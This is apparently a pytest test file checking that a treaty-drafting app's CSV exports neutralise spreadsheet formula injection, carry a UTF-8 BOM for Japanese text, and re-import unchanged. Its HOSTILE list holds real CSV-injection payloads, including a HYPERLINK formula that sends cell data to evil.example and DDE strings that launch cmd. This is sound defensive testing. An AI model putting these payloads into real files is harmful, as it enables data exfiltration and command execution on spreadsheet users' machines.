"""CSV exports are safe to open in a spreadsheet (issue 15 part 7): a cell that starts with
= + - @ a tab or a carriage return is not taken as a formula, and the file starts with a
UTF-8 byte order mark so that Excel reads Japanese correctly. One helper serves the round
report and the library export; the library's export still re-imports unchanged."""

from __future__ import annotations

import codecs
import csv
import io

import pytest
from import_export.formats.base_formats import CSV

from drafting.services import consultation as services
from tests.drafting.test_consultation_pages import round_, urls, world  # noqa: F401
from treaties.admin import LibraryImportExportAdmin
from treaties.csvexport import csv_cell, csv_cell_restore
from treaties.models import LibraryClause
from treaties.resources import LibraryClauseResource

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_cell_is_neutralised_and_restored(value):
    cell = csv_cell(value)
    assert cell == "'" + value
    assert csv_cell_restore(cell) == value


@pytest.mark.parametrize(
    "value, written",
    [
        ("Plain text", "Plain text"),
        ("締約国は、", "締約国は、"),
        ("", ""),
        ("a=b", "a=b"),
        ("1-2", "1-2"),
        ("'quoted", "'quoted"),
        # Already starting with the apostrophe we add: one more, so that import is exact.
        ("'=already", "''=already"),
        ("''=twice", "'''=twice"),
    ],
)
def test_other_cells_round_trip(value, written):
    assert csv_cell(value) == written
    assert csv_cell_restore(written) == value


def test_non_text_cells_are_left_alone():
    assert csv_cell(-5) == -5 and csv_cell(None) is None


def test_round_report_csv_neutralises_formulas_and_starts_with_a_bom(
    client,
    draft,
    personas,
    world,  # noqa: F811 - the fixture imported above
    round_,  # noqa: F811
):
    snapshot = round_.articles.get(article=world["consultation"])
    services.response_submit(
        actor=personas.consultee,
        round_article=snapshot,
        position="proposed_wording",
        wording=HOSTILE[0],
        rationale="@SUM(1+1) 締約国は、",
    )
    client.force_login(personas.owner)
    response = client.get(urls(draft)["csv"])
    assert response.status_code == 200
    assert response.content.startswith(codecs.BOM_UTF8)
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["OFFICIAL-SENSITIVE"]
    row = next(r for r in rows if r[:2] == ["Article 2 — Consultation", "State EAP"])
    assert row[3] == "'" + HOSTILE[0]
    assert row[4] == "'@SUM(1+1) 締約国は、"
    for r in rows:
        for cell in r:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell


def test_library_csv_export_neutralises_formulas_starts_with_a_bom_and_reimports(corpus):
    clause = LibraryClause.objects.order_by("pk").first()
    clause.title = "=1+1 締約国"
    clause.save()
    fmt = next(f for f in LibraryImportExportAdmin.formats if f().get_title() == "csv")()
    assert fmt.can_import() and fmt.can_export()
    exported = fmt.export_data(LibraryClauseResource().export())
    raw = exported.encode("utf-8") if isinstance(exported, str) else exported
    assert raw.startswith(codecs.BOM_UTF8)
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    mine = next(r for r in rows if r["slug"] == clause.slug)
    assert mine["title"] == "'=1+1 締約国"
    # Importing the file back changes nothing, the title included.
    result = LibraryClauseResource().import_data(fmt.create_dataset(raw.decode("utf-8-sig")))
    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["update"] == 0 and result.totals["new"] == 0
    clause.refresh_from_db()
    assert clause.title == "=1+1 締約国"


def test_the_library_admin_offers_the_safe_csv_format():
    assert CSV not in LibraryImportExportAdmin.formats
